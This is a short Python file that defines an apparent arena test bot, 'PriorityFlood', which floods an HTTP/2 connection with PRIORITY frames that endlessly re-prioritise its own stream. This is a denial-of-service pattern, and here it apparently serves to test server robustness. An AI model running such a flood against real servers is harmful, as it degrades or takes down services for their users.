"""Changes the priority of its stream without end."""

from rawhttp2 import PRIORITY, RawBot, frame, number

from arenabot.v1 import player_pb2 as player


class PriorityFlood(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.flood(frame(PRIORITY, number(0) + b"\x10", stream=self.stream))


if __name__ == "__main__":
    PriorityFlood().serve()
